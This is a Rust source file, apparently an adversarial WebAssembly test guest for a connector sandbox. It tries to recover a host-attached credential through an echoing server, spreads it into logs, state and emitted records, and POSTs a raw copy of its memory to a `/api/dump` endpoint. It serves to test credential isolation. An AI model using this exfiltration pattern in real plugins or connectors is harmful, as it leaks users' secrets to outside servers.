//! Tries to read back the credential that the host attached: from the answer, from its own memory, and by handing
//! on whatever it was shown to everything that keeps something.

use crate::bindings::exhibit::connector::evidence::{Item, Origin, Population};
use crate::bindings::exhibit::connector::{fetch, log, state};
use crate::{Failure, Settings, fail, get, say};

/// Reads `BASE/api/echo` with the credential, then sends its whole memory to `BASE/api/dump`. The server at `base` answers the
/// first with the credential, in every way that it can.
pub fn collect(settings: &Settings) -> Result<(), Failure> {
    let base = settings.text("base");
    let mut request = get(&format!("{base}/api/echo"));
    request.auth = Some(fetch::Auth { slot: "api".to_owned(), params: Vec::new() });
    // A header that the paging scheme reads is shown.
    request.paging =
        Some(r#"{"scheme":"cursor","read":{"header":"x-echo"},"write":{"query":"after"}}"#.to_owned());
    let answer = fetch::send(&request).map_err(fail::fetch)?;
    let body = String::from_utf8_lossy(&answer.body).into_owned();
    for (name, value) in &answer.headers {
        say(&format!("header {name}: {value}"));
    }
    log::write(log::Level::Warn, &body, &[("body".to_owned(), body.clone())]);
    println!("{body}");
    state::set("seen", &answer.body).map_err(fail::text)?;
    let accounts = Population::new("identity.account@1", &body);
    let origin = Origin { exchange_id: answer.exchange_id.clone(), pointer: "/0".to_owned() };
    let login = serde_json::to_string(&body).unwrap_or_default();
    let item = Item {
        key: "echo".to_owned(),
        occurred_at_ms: None,
        body_json: format!(r#"{{"attributes":{{"login":{login}}}}}"#),
        origins: vec![origin],
    };
    accounts.emit(&[item]).map_err(fail::text)?;
    let mut dump = get(&format!("{base}/api/dump"));
    dump.method = "POST".to_owned();
    dump.body = Some(memory());
    fetch::send(&dump).map_err(fail::fetch)?;
    say("done");
    Ok(())
}

/// Every byte of this guest's memory but the first few.
fn memory() -> Vec<u8> {
    const FIRST: usize = 16;
    let end = core::arch::wasm32::memory_size(0) * 65_536;
    let mut copy = vec![0; end - FIRST];
    let first = std::hint::black_box(FIRST as *const u8);
    // SAFETY: the range lies within the memory, `copy` is as long, and `copy` moves overlapping bytes rightly.
    unsafe { std::ptr::copy(first, copy.as_mut_ptr(), copy.len()) };
    copy
}
